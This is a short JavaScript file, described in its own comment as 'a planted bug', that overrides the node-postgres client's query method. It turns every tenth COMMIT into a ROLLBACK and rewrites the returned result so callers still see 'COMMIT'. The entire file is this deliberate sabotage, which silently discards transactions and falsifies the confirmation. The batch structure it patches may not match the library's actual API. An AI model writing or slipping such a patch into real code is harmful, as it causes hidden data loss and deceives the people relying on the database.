import pg from 'pg';

/* A planted bug: every tenth COMMIT is sent as ROLLBACK, and told to have been one. Statements come in batches. */

const { query } = pg.Client.prototype;
let commits = 0;

pg.Client.prototype.query = function (batch, ...rest) {
  for (const one of batch?.pending ?? []) {
    if (one.statement.text !== 'COMMIT' || (commits += 1) % 10 !== 0) continue;
    one.statement = { name: 'ROLLBACK', text: 'ROLLBACK', values: [] };
    const { resolve } = one;
    one.resolve = (result) => resolve?.({ ...result, command: 'COMMIT' });
  }
  return query.call(this, batch, ...rest);
};
